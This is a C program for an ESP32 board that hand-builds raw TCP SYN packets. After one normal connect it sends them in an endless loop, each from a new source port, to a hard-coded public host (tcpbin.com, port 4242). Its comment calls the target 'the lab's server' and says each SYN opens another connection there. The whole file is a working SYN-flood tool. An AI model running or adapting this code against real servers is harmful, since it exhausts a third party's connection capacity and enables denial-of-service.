// SPDX-License-Identifier: Apache-2.0
// Connects to the lab's server, and then sends SYN after SYN past its own TCP, each from another port. lwIP knows of none of them, and answers
// SYN-ACK with RST: the lab's server has another connection each time.
#include <string.h>
#include "freertos/FreeRTOS.h"
#include "freertos/event_groups.h"
#include "freertos/task.h"
#include "lwip/netdb.h"
#include "lwip/netif.h"
#include "lwip/pbuf.h"
#include "lwip/sockets.h"
#include "lwip/tcpip.h"
#include "connect_wifi_sta.h"

static uint8_t frame[54];

static void put(unsigned offset, uint32_t value, unsigned size)
{
    for (unsigned i = 0; i < size; i++) {
        frame[offset + i] = value >> (8 * (size - 1 - i));
    }
}

static uint16_t checksum(unsigned offset, unsigned length, uint32_t sum)
{
    for (unsigned i = 0; i < length; i += 2) {
        sum += frame[offset + i] << 8 | frame[offset + i + 1];
    }
    while (sum >> 16) {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    return ~sum;
}

static void send_syn(const struct sockaddr_in *server, unsigned number)
{
    struct netif *interface = netif_default;
    struct pbuf *buffer;

    memset(frame, 0, sizeof(frame));
    memcpy(frame, "\x52\x55\x0a\x00\x02\x02", 6);
    memcpy(frame + 6, interface->hwaddr, 6);
    put(12, 0x0800, 2);
    put(14, 0x45000028, 4);
    put(18, number, 2);
    put(22, 64, 1);
    put(23, 6, 1);
    put(26, ntohl(ip4_addr_get_u32(netif_ip4_addr(interface))), 4);
    put(30, ntohl(server->sin_addr.s_addr), 4);
    put(24, checksum(14, 20, 0), 2);
    put(34, 2000 + number % 60000, 2);
    put(36, ntohs(server->sin_port), 2);
    put(38, number, 4);
    put(46, 0x50020000 | 0x1600, 4);
    put(50, checksum(34, 20, ~checksum(26, 8, 6 + 20) & 0xffff), 2);
    LOCK_TCPIP_CORE();
    buffer = pbuf_alloc(PBUF_RAW, sizeof(frame), PBUF_RAM);
    if (buffer != NULL) {
        memcpy(buffer->payload, frame, sizeof(frame));
        interface->linkoutput(interface, buffer);
        pbuf_free(buffer);
    }
    UNLOCK_TCPIP_CORE();
}

void app_main(void)
{
    const struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
    struct addrinfo *server = NULL;

    connect_wifi_sta();
    xEventGroupWaitBits(s_wifi_event_group, WIFI_CONNECTED_BIT, pdFALSE, pdTRUE, portMAX_DELAY);
    if (getaddrinfo("tcpbin.com", "4242", &hints, &server) != 0) {
        return;
    }
    int connection = socket(AF_INET, SOCK_STREAM, 0);
    connect(connection, server->ai_addr, server->ai_addrlen);
    for (unsigned number = 1;; number++) {
        send_syn((const struct sockaddr_in *)server->ai_addr, number);
        if (number % 16 == 0) {
            vTaskDelay(1);
        }
    }
}
